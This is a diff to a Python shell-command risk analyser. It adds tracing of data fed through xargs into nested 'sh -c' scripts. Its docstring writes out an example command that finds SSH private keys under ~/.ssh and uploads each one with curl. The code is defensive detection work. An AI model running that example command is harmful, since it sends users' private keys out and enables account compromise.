@@ -63,7 +63,7 @@ from dongle.rules.windows import (
     windows_removal,
     windows_system_removal,
 )
-from dongle.shell.context import NETWORK_SOURCES, looks_dynamic
+from dongle.shell.context import NETWORK_SOURCES, SHELLS, looks_dynamic
 from dongle.shell.effects import (
     COMMAND_VARIABLES,
     GIT_COMMAND_KEYS,
@@ -287,7 +287,8 @@ def _assess_model(
         # the checks below that only some parts call for are called only for those (their own first
         # test, asked here): a call each was a tenth of judging a plain part
         name = facts.name
-        facts.feeders = _feeders(inv, index, model.invocations, all_facts) if inv.stdin_from else ()
+        facts.feeders = _feeders(inv, index, model.invocations, all_facts) if inv.stdin_from else (
+            _item_feeders(inv, index, model.invocations, all_facts) if inv.via[-1:] and inv.depth else ())
         launcher = _launcher(inv, index, model.invocations, all_facts) if inv.remote and inv.depth else None
         if launcher is not None:
             facts.mounts = _mounts(launcher)
@@ -2051,6 +2052,27 @@ def _feeders(
         if not wanted:
             break
     return tuple(found)
+
+
+# How a shell script run for each item (`xargs -I% sh -c '… % …'`, `sh -c '… "$1"' _ {}`) names the item.
+_ITEM_FORMS = ("{}", "%", "$1", "${1}", "$@", "\"$@\"", "$*")
+
+
+def _item_feeders(
+    inv: Invocation, index: int, invocations: tuple[Invocation, ...], done: list[Facts]
+) -> tuple[Facts, ...]:
+    """`find ~/.ssh -name 'id_*' | xargs -I% sh -c 'curl -F "file=@%" URL'`: xargs runs the shell once per
+    line of the listing, and a command of its script handed the item reads what the listing names, as
+    if piped to it directly; () for any other nested command."""
+    if not inv.via[-1].endswith(" -c") or not any(f in a for a in inv.args for f in _ITEM_FORMS):
+        return ()
+    for j in range(index - 1, -1, -1):
+        other = invocations[j]
+        if other.depth < inv.depth:
+            fed = other.depth == inv.depth - 1 and other.name in SHELLS and (
+                {"xargs", "parallel"} & set(other.wrappers))
+            return done[j].feeders if fed else ()
+    return ()
 
 
 def _launcher(
